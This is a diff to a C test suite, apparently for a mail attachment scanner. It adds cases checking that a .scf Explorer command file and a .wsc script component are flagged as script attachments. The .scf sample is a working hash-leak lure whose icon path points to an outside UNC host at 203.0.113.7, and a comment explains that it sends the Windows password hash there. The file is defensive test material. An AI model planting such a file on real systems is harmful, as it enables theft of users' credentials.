@@ -1369,6 +1369,10 @@ lz4_raw(unsigned char *out, const unsigned char *d, size_t n)
 static void
 more_kinds(const unsigned char *pe)
 {
+	static const char scf[] = "[Shell]\r\nCommand=2\r\n"
+	    "IconFile=\\\\203.0.113.7\\s\\i.ico\r\n";
+	static const char wsc[] = "<component><script language=\"JScript\">"
+	    "</script></component>";
 	unsigned char	*b = calloc(1, 64 * 1024);
 	size_t		 n, i;
 	unsigned	 sum = 0;
@@ -1486,6 +1490,11 @@ more_kinds(const unsigned char *pe)
 	ok(file_fires("a search connector", "invoice.searchConnector-ms",
 	    "<?xml version=\"1.0\"?><searchConnectorDescription/>", 49,
 	    "attach.script"), "a .searchConnector-ms is one too");
+	ok(file_fires("an Explorer command file", "invoice.scf", scf,
+	    sizeof(scf) - 1, "attach.script"), "a .scf is one too (it "
+	    "sends the Windows password's hash where its icon lies)");
+	ok(file_fires("a script component", "invoice.wsc", wsc,
+	    sizeof(wsc) - 1, "attach.script"), "a .wsc is one too");
 }
 
 static void
